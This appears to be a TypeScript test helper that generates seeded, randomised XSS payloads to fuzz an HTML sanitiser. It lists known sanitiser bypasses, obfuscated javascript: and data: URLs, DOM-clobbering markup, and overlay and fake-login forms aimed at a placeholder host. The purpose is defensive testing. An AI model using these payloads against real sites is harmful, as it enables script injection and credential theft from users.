/** Host of all requests and links of hostile markup. The name never resolves (RFC 2606). */
export const HOSTILE_HOST = 'hostile.invalid';
/** Global function that hostile markup calls when it runs; the test defines it. */
export const RAN = 'ranHostile';

type Random = () => number;
/** Returns a seeded generator, so that a payload that got through can be reproduced by its number (mulberry32). */
function createRandom(seed: number): Random {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

const splitWords = (text: string): readonly string[] => text.trim().split(/\s+/);
const tags =
  splitWords(`img svg body input video audio details marquee iframe object embed select textarea button form a math
  style link meta base table div p isindex image frameset portal dialog x-own template noscript title svg:script keygen`);
const handlers =
  splitWords(`onload onerror onclick onmouseover onfocus onfocusin ontoggle onbeforetoggle onbegin onanimationstart
  onanimationend ontransitionend onpointerenter onpointerrawupdate onscrollend onwheel oncopy onpageshow onhashchange`);
const linked = splitWords(`a[href] area[href] form[action] button[formaction] input[formaction] iframe[src] object[data]
  embed[src] img[src] img[srcset] source[srcset] video[poster] link[href] base[href] body[background] table[background]
  use[xlink:href] image[xlink:href] animate[values] set[to] math[href] a[ping] track[src] script[src] input[src] q[cite]`);
const clobbered =
  splitWords(`body cookie forms getElementById createElement location defaultView attributes nodeName parentNode
  nodeType children ownerDocument documentElement config ${RAN} submit action length constructor __proto__`);
const gaps = [' ', '/', '\t', '\n', '\f', ' / ', '\u00A0', '\r\n'];
const controls = ['\t', '\n', '\0', '\u0001', '&Tab;', '&NewLine;', '&#x09;', '\u200B', '\u00AD'];

/** Known bypasses of sanitisers, each around a script of ours. */
const broken: readonly ((js: string) => string)[] = [
  (js) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
  (js) => `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`,
  (js) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${js}>`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js) => `<svg><desc><![CDATA[</desc><img src=x onerror=${js}>]]></svg>`,
  (js) => `<svg><foreignObject><math><mi><style><img src=x onerror=${js}></style></mi></math></foreignObject></svg>`,
  (js) => `<template><s><template><s><img src=x onerror=${js}></s></template></s></template>`,
  (js) => `<select><noembed></select><script>${js}</script></noembed>`,
  (js) => `<textarea><title></textarea><img src=x onerror=${js}>`,
  (js) => `<xmp><svg><b><style><b title='</style><img src=x onerror=${js}>'>`,
  (js) => `<a><svg><style><img title="</style><img src=x onerror=${js}>">`,
  (js) => `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${js}></style></annotation-xml></math>`,
  (js) => `<svg><title><style><!--</style><img src=x onerror=${js}>--></title></svg>`,
  (js) => `<table><caption><svg><title><table></caption><img src=x onerror=${js}>`,
  (js) => `<?xml-stylesheet ><img src=x onerror=${js}> ?>`,
  (js) => `<!--><img src=x onerror=${js}>-->`,
  (js) => `<![CDATA[><script>${js}</script>]]>`,
  (js) => `</p></div></body></html><script>${js}</script>`,
  (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  (js) => `<iframe srcdoc="&lt;svg onload=${js}&gt;"></iframe>`,
  (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s></svg>`,
  (js) => `<svg><a><animate attributeName=href values=javascript:${js} /><text y=20>press</text></a></svg>`,
  (js) => `<details open ontoggle=${js}><summary>more</summary></details>`,
  (js) => `<input autofocus onfocus=${js}>`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (js) => `<object data="data:text/html,<script>${js}</script>"></object>`,
  (js) => `<math href="javascript:${js}">press</math>`,
  (js) => `<button popovertarget=p>press</button><div popover id=p onbeforetoggle=${js}>x</div>`,
  (js) => `${'<div>'.repeat(600)}<math><mtext><table><mglyph><style><img src=x onerror=${js}>`,
  (js) => `${'<b>'.repeat(90)}<svg><style><a title="</style><script>${js}</script>">`,
  () => `<style>@import 'https://${HOSTILE_HOST}/a.css'; * { background: url(https://${HOSTILE_HOST}/b) }</style>`,
  () => `<p style="position:fixed;inset:0;z-index:99999;background:url(//${HOSTILE_HOST}/c)">covers</p>`,
  () => `<div class="a" style="display:block;width:900vw;height:900vh;position:absolute;top:0;left:0">covers</div>`,
  () => `<link rel=stylesheet href=//${HOSTILE_HOST}/d.css><link rel=prefetch href=//${HOSTILE_HOST}/e>`,
  () => `<form action=https://${HOSTILE_HOST}/f><input name=pin><button>Sign in again</button></form>`,
  () => `<base href=https://${HOSTILE_HOST}/><a href=portfolio>portfolio</a>`,
];

/** Returns a script that reports its execution, written in a form that a filter may miss. */
function randomScript(pick: <T>(from: readonly T[]) => T): string {
  const call = `(window.${RAN}||parent.${RAN})()`;
  return pick([
    call,
    `(self['${RAN}']||parent['${RAN}'])()`,
    `[(window.${RAN}||parent.${RAN})].map(f=>f())`,
    call.replace('ran', '&#114;&#97;n'),
    call.replace('ran', String.raw`\u0072an`),
    `eval(atob('${btoa(call)}'))`,
    `setTimeout('${call}')`,
    `(window.${RAN}||parent.${RAN})\`\``,
  ]);
}

function randomAddress(js: string, pick: <T>(from: readonly T[]) => T): string {
  const control = pick(controls);
  return pick([
    `javascript:${js}`,
    `java${control}script:${js}`,
    `${control}javascript:${js}`,
    `JaVaScRiPt${control}:${js}`,
    `&#106;avascript:${js}`,
    `javascript&colon;${js}`,
    `vbscript:${js}`,
    `data:text/html,<script>${js}</script>`,
    `data:text/html;base64,${btoa(`<script>${js}</script>`)}`,
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js}'/>`,
    `data:image/png;base64,iVBORw0KGgo=" onerror="${js}`,
    `//${HOSTILE_HOST}/x`,
    `https://${HOSTILE_HOST}/x 1x, javascript:${js} 2x`,
    String.raw`\\${HOSTILE_HOST}\x`,
    `https:${control}//${HOSTILE_HOST}/x`,
    `blob:https://${HOSTILE_HOST}/x`,
  ]);
}

const wrappings: readonly ((inner: string) => string)[] = [
  ...splitWords(
    'svg math template noscript select textarea table title style option iframe noembed button form xmp',
  ).map((tag) => (inner: string) => `<${tag}>${inner}</${tag}>`),
  (inner) => `<svg><foreignObject>${inner}</foreignObject></svg>`,
  (inner) => `<math><annotation-xml encoding="application/xhtml+xml">${inner}</annotation-xml></math>`,
  (inner) => `<table><tr><td>${inner}</td></tr></table>`,
  (inner) => `<p title="${inner}">`,
  (inner) => `"><p>${inner}`,
  (inner) => `<!--${inner}-->`,
  (inner) => `<p>Order <b>${inner}</p></b>`,
];

function randomPayload(random: Random, depth = 0): string {
  const pick = <T>(from: readonly T[]): T => from[Math.floor(random() * from.length)] as T;
  const js = randomScript(pick);
  const randomGap = () => pick(gaps);
  const quoteRandomly = (value: string) => {
    const quote = pick(['"', "'", '`', '']);
    return `${quote}${value}${quote}`;
  };
  const randomCase = (text: string) =>
    random() < 0.3 ? text.replace(/[a-z]/g, (c) => (random() < 0.5 ? c : c.toUpperCase())) : text;
  const shapes: readonly (() => string)[] = [
    () =>
      `<${randomCase(pick(tags))}${randomGap()}src=x${randomGap()}${randomCase(pick(handlers))}=${quoteRandomly(js)}${pick(['>', '/>', '', ' x'])}`,
    () => {
      const [tag = '', attribute = ''] = pick(linked).split(/[[\]]/);
      return `<${randomCase(tag)}${randomGap()}${randomCase(attribute)}=${quoteRandomly(randomAddress(js, pick))}>press</${tag}>`;
    },
    () => pick(broken)(js),
    () => {
      const name = pick(clobbered);
      return pick([
        `<a id=${name}>a</a><a id=${name} name=href href=https://${HOSTILE_HOST}>b</a>`,
        `<form id=${name}><input name=${pick(clobbered)}><output id=${pick(clobbered)}></form>`,
        `<img name=${name} src=x>`,
        `<iframe name=${name} srcdoc="<script>${js}</script>"></iframe>`,
        `<svg id=${name}><use href=#${name} /></svg>`,
      ]);
    },
    () =>
      `<${pick(['script', 'SCRIPT', 'scr\0ipt', 'svg><script', 'script/x', 'script\n'])}>${js}</script${pick(['>', ' >', '/>', ''])}`,
  ];
  const one = pick(shapes)();
  const fate = random();
  if (depth > 3 || fate < 0.45) return one;
  if (fate < 0.7) return pick(wrappings)(randomPayload(random, depth + 1));
  if (fate < 0.8) return one.slice(0, Math.floor(random() * one.length)) + randomPayload(random, depth + 1);
  if (fate < 0.9) return one + randomPayload(random, depth + 1);
  const at = Math.floor(random() * one.length);
  return one.slice(0, at) + pick([...controls, '<', '>', '&', '"', '<!--', ']]>', '&lt;', '</']) + one.slice(at);
}

/** Returns payloads of hostile markup, always the same ones for the same seed. */
export function createHostilePayloads(count: number, seed = 9): readonly string[] {
  const random = createRandom(seed);
  return Array.from({ length: count }, () => randomPayload(random));
}
